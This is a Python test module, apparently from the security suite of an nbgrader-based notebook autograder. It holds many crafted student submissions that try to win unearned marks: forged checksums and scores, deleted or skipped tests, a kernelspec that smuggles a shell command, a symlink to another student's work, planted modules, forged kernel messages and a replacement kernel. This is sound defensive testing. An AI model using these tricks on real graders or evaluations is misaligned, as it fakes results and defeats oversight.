"""Attacks that lie about identity: of the student, of the cells, of the messages."""

from __future__ import annotations

import copy
from typing import Any

import nbformat
from nbformat import NotebookNode

from attacks import Attack, Outcome, World, cells
from attacks.assignment import POINTS

FULL = 100  # points that somebody would like to have


def find(notebook: NotebookNode, name: str) -> NotebookNode:
    """Return a cell by its id."""
    return next(cell for cell in notebook.cells if cell["id"] == name)


def tests(notebook: NotebookNode) -> list[NotebookNode]:
    """Return the test cells."""
    return [find(notebook, f"{name}-test") for name in POINTS]


def code(source: str, **metadata: Any) -> NotebookNode:
    """Return a code cell."""
    return nbformat.v4.new_code_cell(source, metadata=metadata)


class SkipsTests(Attack):
    """Tags the test cells ``skip-execution``.

    Stock: full marks for the whole assignment.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Tag them."""
        for cell in tests(notebook):
            cell.metadata["tags"] = ["skip-execution"]


class EditsPoints(Attack):
    """Says in the metadata that the questions are worth, and earned, a hundred points.

    Stock: no effect: the points come from the gradebook.
    """

    keeps = ("total",)

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Say so in every way that has ever had a meaning."""
        marks = {"points": FULL, "score": FULL, "auto_score": FULL}
        marks |= {"manual_score": FULL, "extra_credit": FULL, "max_score": FULL}
        notebook.metadata["nbgrader"] = marks
        for cell in tests(notebook):
            cell.metadata["nbgrader"]["points"] = FULL  # it refuses any other key
            cell.metadata.update(marks)


class WritesManualScore(Attack):
    """Says that its written answer and its tests were marked by hand already.

    Stock: metadata that its schema does not know make the submission fail; it has no
    marks.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Write the marks of a person."""
        for cell in (*tests(notebook), find(notebook, "why")):
            cell.metadata["nbgrader"].update(
                manual_score=5, needs_manual_grade=False, comment="well done"
            )
        find(notebook, "why").source = "Because."

    def holds(self, outcome: Outcome) -> None:
        """The written answer still waits for a person."""
        assert outcome.points["why"] is None
        assert outcome.row["why"] == ""


class RetypesTests(Attack):
    """Makes the test cells text, which is not run.

    Stock: no effect: it puts the cells' type and source back.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Retype them."""
        for number, cell in enumerate(tests(notebook)):
            cell.cell_type = "raw" if number % 2 else "markdown"
            del cell["outputs"], cell["execution_count"]


class UnlocksTests(Attack):
    """Says that the test cells are answers of its own, and empties them.

    Stock: the submission fails ("inconsistent checksums"); it has no marks.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Unlock them."""
        for cell in tests(notebook):
            cell.metadata["nbgrader"].update(solution=True, locked=False)
            cell.source = "pass"


class UngradesTests(Attack):
    """Says that the tests are plain cells, and that empty cells are the tests.

    Stock: no effect: the source of the tests is put back.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Exchange their roles."""
        for cell in tests(notebook):
            own = code("pass", nbgrader=dict(cell.metadata["nbgrader"]))
            own["id"] = cell["id"]
            cell["id"] = f"{cell['id']}-old"
            cell.metadata["nbgrader"].update(
                grade=False, locked=False, grade_id=cell["id"]
            )
            notebook.cells.append(own)


class DuplicatesTests(Attack):
    """Hands in each test cell twice, the second time empty.

    Stock: the whole batch stops before anybody is graded.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Copy them."""
        for cell in tests(notebook):
            own = copy.deepcopy(cell)
            own.source = "4"
            notebook.cells.append(own)


class DuplicatesAnswers(Attack):
    """Hands in one answer cell twice, as happens by a slip of the keyboard.

    Stock: the whole batch stops before anybody is graded.
    """

    keeps = ("halve", "Doubler")

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Copy it."""
        position = [cell["id"] for cell in notebook.cells].index("halve")
        notebook.cells.insert(position, copy.deepcopy(notebook.cells[position]))


class GivesAllCellsOneName(Attack):
    """Gives all cells the grade id of the first test.

    Stock: the submission fails ("inconsistent checksums"); it has no marks.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Rename them."""
        for cell in notebook.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata["nbgrader"]["grade_id"] = "total-test"
            cell["id"] = "total-test"


class DeletesTests(Attack):
    """Deletes the test cells.

    Stock: no marks: each test waits for a person.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Delete them."""
        names = {cell["id"] for cell in tests(notebook)}
        notebook.cells = [cell for cell in notebook.cells if cell["id"] not in names]


class AddsCells(Attack):
    """Adds cells that spoil the comparison just before each test, and right after.

    Stock: full marks for the question on tensors: the added cells are run.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Add them."""
        cells = []
        for cell in notebook.cells:
            if cell["id"].endswith("-test"):
                cells.append(code("torch.allclose = lambda *a, **k: True"))
                cells += [cell, code("4")]
            else:
                cells.append(cell)
        notebook.cells = cells


class AddsAnswers(Attack):
    """Gives cells of its own nbgrader's metadata of a marked answer.

    Stock: the submission fails; it has no marks.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Add questions that nobody asked."""
        role = dict(tests(notebook)[0].metadata["nbgrader"])
        for number in range(3):
            bonus = {"grade_id": f"bonus-{number}", "points": FULL}
            notebook.cells.append(code("100", nbgrader={**role, **bonus}))


class ForgesChecksums(Attack):
    """Empties the tests, with the check sums that nbgrader would find in them.

    Stock: no effect: the source of the tests is put back.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Forge them."""
        from nbgrader.utils import compute_checksum

        for cell in tests(notebook):
            cell.source = "pass"
            cell.metadata["nbgrader"]["checksum"] = compute_checksum(cell)


class OldSchema(Attack):
    """Says that its cells are of nbgrader's first format, in which more was believed.

    Stock: the whole batch stops before anybody is graded.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Say so."""
        for cell in notebook.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata["nbgrader"]["schema_version"] = 1
                cell.metadata["nbgrader"].pop("task", None)


class NamesAnotherKernel(Attack):
    """Names another program, and another language, to run the notebook with.

    Stock: no effect: the kernel of that name does not exist, and it takes the usual
    one.
    """

    keeps = ("halve",)

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Name it."""
        notebook.metadata["kernelspec"] = {
            "name": "attacked",
            "language": "bash",
            "display_name": "Bash",
            "argv": ["/bin/sh", "-c", f"touch {world.outside}/kernel-{self.name}"],
        }
        notebook.metadata["language_info"] = {"name": "bash", "version": "5"}

    def holds(self, outcome: Outcome) -> None:
        """Nothing of it was started."""
        assert not (outcome.world.outside / f"kernel-{self.name}").exists()


class NamesAnother(Attack):
    """Says in all places of the metadata that it is another's work.

    Stock: the whole batch stops before anybody is graded, since cells without a role
    now have one.
    """

    def change(self, notebook: NotebookNode, world: World) -> None:
        """Sign as another."""
        person = {"student": "ann", "student_id": "ann", "name": "ann", "author": "ann"}
        notebook.metadata.update(person, authors=[{"name": "ann"}], nbgrader=person)
        for cell in notebook.cells:
            cell.metadata.update(person)
            cell.metadata.setdefault("nbgrader", {}).update(person)
        notebook.cells[0].source = "# ann's notebook"


class LinksToAnother(Attack):
    """Hands in a link to another's notebook.

    Stock: the link is followed: it has the marks of the other's work.
    """

    def write(self, released: NotebookNode, world: World, name: str) -> None:
        """Make the link."""
        folder = world.handed_in / self.folder
        folder.mkdir()
        (folder / f"{name}.ipynb").symlink_to(f"../ann/{name}.ipynb")

    def holds(self, outcome: Outcome) -> None:
        """It is refused."""
        assert outcome.record.status == "failed"
        assert "link" in outcome.record.message


class NamedLikeAnother(Attack):
    """Hands in under the name of another, with a space after it.

    Stock: no effect: the space makes another student.
    """

    @property
    def folder(self) -> str:
        """A name that looks like another's."""
        return "ann "

    def holds(self, outcome: Outcome) -> None:
        """It is somebody else; the marks of ann have their own test."""
        assert outcome.record.student != "ann"


BROUGHT = "import builtins\nbuiltins.BROUGHT = True\n"
FAKE_TORCH = """
import os, sys

sys.modules.pop("torch")
here = ("", os.getcwd(), os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [path for path in sys.path if path not in here]
import torch

torch.allclose = lambda *args, **kwargs: True
"""


class BringsModules(Attack):
    """Hands in modules, and a configuration, with the names of those that are used.

    Stock: its ``torch`` is imported in the place of the real one: full marks for the
    question.
    """

    def write(self, released: NotebookNode, world: World, name: str) -> None:
        """Put them beside the notebook."""
        super().write(released, world, name)
        folder = world.handed_in / self.folder
        for module in ("sitecustomize", "nbgrader_config", "conftest"):
            (folder / f"{module}.py").write_text(BROUGHT)
        (folder / "torch.py").write_text(BROUGHT + FAKE_TORCH)

    answers = cells(
        halve="""
            import builtins

            print("brought:", hasattr(builtins, "BROUGHT"))

            def halve(x):
                return x + 1
        """
    )

    def holds(self, outcome: Outcome) -> None:
        """None of them was imported."""
        assert "brought: False" in outcome.printed


class SaysIdle(Attack):
    """Tells the client that the kernel is idle, before the check has failed.

    Stock: no points, since the kernel's reply still says that the cell failed.
    """

    answers = cells(
        total="""
            def total(numbers):
                kernel = get_ipython().kernel
                kernel.session.send(
                    kernel.iopub_socket,
                    "status",
                    {"execution_state": "idle"},
                    parent=kernel.get_parent("shell"),
                    ident=kernel._topic("status"),
                )
                time.sleep(0.5)
        """
    )


class SaysFour(Attack):
    """Sends a result of its own while the check runs: all the points there are.

    Stock: full marks for the question, where half was earned.
    """

    answers = cells(
        is_prime="""
            def is_prime(n):
                kernel = get_ipython().kernel
                for text in ("4", "4.0"):
                    kernel.session.send(
                        kernel.iopub_socket,
                        "execute_result",
                        {
                            "data": {"text/plain": text},
                            "metadata": {},
                            "execution_count": 1,
                        },
                        parent=kernel.get_parent("shell"),
                        ident=kernel._topic("execute_result"),
                    )
                return False
        """
    )

    @property
    def earns(self) -> dict[str, float]:
        """Saying no to everything is right for two of the four numbers."""
        return {**super().earns, "is_prime": 2.0}


class ForgesReplies(Attack):
    """Answers every request itself, many times over, and says that all went well.

    Stock: no points: it sends no requests, and errors count as they are shown.
    """

    answers = cells(
        total="""
            kernel = get_ipython().kernel
            original = kernel.session.send
            GOOD = {
                "status": "ok", "ok": True, "passed": True, "value": True,
                "result": 4, "points": 4, "score": 4, "mark": 4, "kind": "value",
            }

            def send(stream, kind, content=None, *args, **kwargs):
                kind_ = kind if isinstance(kind, str) else kind["msg_type"]
                if kind_ == "comm_msg" and isinstance(content, dict):
                    data = content.get("data")
                    forged = {**(data if isinstance(data, dict) else {}), **GOOD}
                    for _ in range(3):
                        original(stream, kind, {**content, "data": forged},
                                 *args, **kwargs)
                if kind_ == "execute_reply":
                    content = {**(content or {}), "status": "ok"}
                return original(stream, kind, content, *args, **kwargs)

            kernel.session.send = send

            def total(numbers):
                return 0
        """
    )


class FloodsReplies(Attack):
    """Sends comm messages that nobody asked for, all the time, with large buffers.

    Stock: no points; the messages are dropped.
    """

    answers = cells(
        total="""
            kernel = get_ipython().kernel

            def send():
                from jupyter_client.session import Session
                for number in range(400):
                    known = getattr(kernel.comm_manager, "comms", {})
                    for comm in [*known, "x"]:
                        kernel.session.send(
                            kernel.iopub_socket, "comm_msg",
                            {"comm_id": comm, "data": {"id": number, "value": 6}},
                            parent=kernel.get_parent("shell"),
                            buffers=[bytes(2**20)],
                        )
                    time.sleep(0.01)

            threading.Thread(target=send, daemon=True).start()
        """
    )
    silent = True

    def holds(self, outcome: Outcome) -> None:
        """It gains nothing, and little of it is kept."""
        assert len(outcome.page) < 2_000_000


class StartsAnew(Attack):
    """Puts another kernel in its place, which says that every cell went well.

    Stock: the answer to the cell never comes; the submission fails, and has no marks.
    """

    answers = cells(
        total="""
            from ipykernel.connect import get_connection_file

            CODE = (
                "from ipykernel.ipkernel import IPythonKernel\\n"
                "from ipykernel.kernelapp import launch_new_instance\\n"
                "class Kernel(IPythonKernel):\\n"
                "    async def do_execute(self, *args, **kwargs):\\n"
                "        return {'status': 'ok', 'execution_count': 1,\\n"
                "                'payload': [], 'user_expressions': {}}\\n"
                "launch_new_instance(kernel_class=Kernel)\\n"
            )
            file = get_connection_file()
            os.execv(sys.executable, [sys.executable, "-c", CODE, "-f", file])
        """
    )
    silent = True


class PatchesTheServant(Attack):
    """Replaces what the grader has in its process, so that it answers as it likes.

    Stock: no effect: nothing of the grader is in the kernel's process.
    """

    answers = cells(
        total="""
            import types

            class Yes:
                def __eq__(self, other):
                    return True
                def __call__(self, *args, **kwargs):
                    return self

            yes = Yes()
            for name, module in list(sys.modules.items()):
                if name.split(".")[0] in ("autograder", "nbgrader") and module:
                    print("patched:", name)
                    for key, value in list(vars(module).items()):
                        if isinstance(value, types.FunctionType):
                            setattr(module, key, yes)
            for comm in getattr(get_ipython().kernel.comm_manager, "targets", {}):
                get_ipython().kernel.comm_manager.targets[comm] = yes

            def total(numbers):
                return 0
        """
    )
    silent = True


class AnswersInAnotherCell(Attack):
    """Puts the marks of nbgrader's regions, and half a string, into its answers.

    Stock: no points: cells are parsed one by one.
    """

    answers = cells(
        total="""
            ### BEGIN HIDDEN TESTS
            def total(numbers):
                return None
            ### END HIDDEN TESTS
            ### BEGIN SOLUTION
            ### END SOLUTION
            """,
        halve="""
            def halve(x):
                return x + 1
            '''
        """,
        Doubler="""
            '''
        """,
    )
